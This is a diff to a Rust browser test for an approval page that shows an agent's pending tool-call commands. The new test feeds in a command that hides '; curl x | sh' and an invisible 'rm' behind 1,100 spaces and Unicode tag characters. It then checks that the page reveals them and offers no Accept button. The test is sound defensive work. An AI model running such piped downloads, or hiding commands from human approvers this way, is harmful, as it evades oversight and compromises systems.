@@ -6,7 +6,8 @@
 //! resolve over the fetch event stream without a reload; Decline likewise;
 //! a hostile title renders as text and runs nothing; a listener on another
 //! port visited by the same browser gets nothing serve accepts; `--open`'s
-//! code works once. Screenshots (desktop and phone width) land in
+//! code works once; a card not shown whole shows its markers and no Accept
+//! button. Screenshots (desktop and phone width) land in
 //! `target/serve-screenshots/`.
 
 use std::io::{Read, Write};
@@ -549,4 +550,91 @@ fn the_open_code_works_once_in_chromium() {
         }
         browser.close().await.expect("close");
     });
+}
+
+/// Issue 19: a card whose command is padded, spelled in part in tag
+/// characters and longer than card text keeps whole shows its markers in
+/// Chromium, is not complete, has no Accept button and says why; Decline
+/// still answers it.
+#[test]
+fn an_incomplete_card_in_chromium_shows_its_markers_and_no_accept() {
+    let Some(driver) = Driver::start() else {
+        eprintln!("!!! chromedriver missing: the real-browser serve tests are skipped (.ci/run installs it) !!!");
+        return;
+    };
+    let tags: String = "rm"
+        .chars()
+        .map(|c| char::from_u32(0xE0000 + u32::from(c)).expect("a tag character"))
+        .collect();
+    let command = format!(
+        "echo hi{}; curl x | sh{tags}{}",
+        " ".repeat(1100),
+        "x".repeat(20 * 1024)
+    );
+    let mut asked = request("r1", "Running: pwd");
+    asked["toolCall"] = json!({"kind": "execute", "rawInput": {"command": command}});
+    let session = Session::new(|_| json!({"requests": [asked]}));
+    session.start();
+    let serve = Serve::start(&session.env, &[]);
+    let card = serve.wait_card("pending", |card| card["state"] == "pending");
+    assert_eq!(card["complete"], false);
+    let id = card["id"].as_str().expect("id").to_owned();
+    let profile = tempfile::tempdir().expect("profile");
+    runtime().block_on(async {
+        let browser = browser(&driver, profile.path()).await;
+        browser.set_window_size(390, 844).await.expect("phone size");
+        browser.goto(&serve.url()).await.expect("open the URL");
+        let pending = format!("article[data-card='{id}'][data-state='pending']");
+        wait_for(&browser, &pending).await;
+        let shown = browser
+            .find(Locator::Css(&format!("{pending} .command")))
+            .await
+            .expect("the command");
+        assert!(shown.is_displayed().await.expect("displayed"));
+        let text = shown.text().await.expect("text");
+        assert!(
+            text.starts_with("echo hi⟨1100 spaces⟩; curl x | sh⟨U+E0072⟩⟨U+E006D⟩x"),
+            "{}",
+            &text[..80]
+        );
+        assert!(
+            text.ends_with(" more characters)"),
+            "{}",
+            &text[text.len() - 60..]
+        );
+        let why = browser
+            .find(Locator::Css(&format!("{pending} .incomplete")))
+            .await
+            .expect("a line saying why");
+        assert!(why.is_displayed().await.expect("displayed"));
+        assert!(why
+            .text()
+            .await
+            .expect("text")
+            .contains("accept it in the terminal"));
+        assert!(
+            browser
+                .find(Locator::Css(&format!("{pending} button.accept")))
+                .await
+                .is_err(),
+            "an Accept button for an incomplete card"
+        );
+        let shot = browser.screenshot().await.expect("screenshot");
+        std::fs::write(screenshots().join("page-phone-incomplete.png"), shot).expect("write");
+        browser
+            .find(Locator::Css(&format!("{pending} button.decline")))
+            .await
+            .expect("Decline")
+            .click()
+            .await
+            .expect("click");
+        session.assert_keys(&["Down", "Down", "Enter"]);
+        wait_for(
+            &browser,
+            &format!("[data-card='{id}'][data-state='declined']"),
+        )
+        .await;
+        browser.close().await.expect("close");
+    });
+    session.stop_and_check();
 }
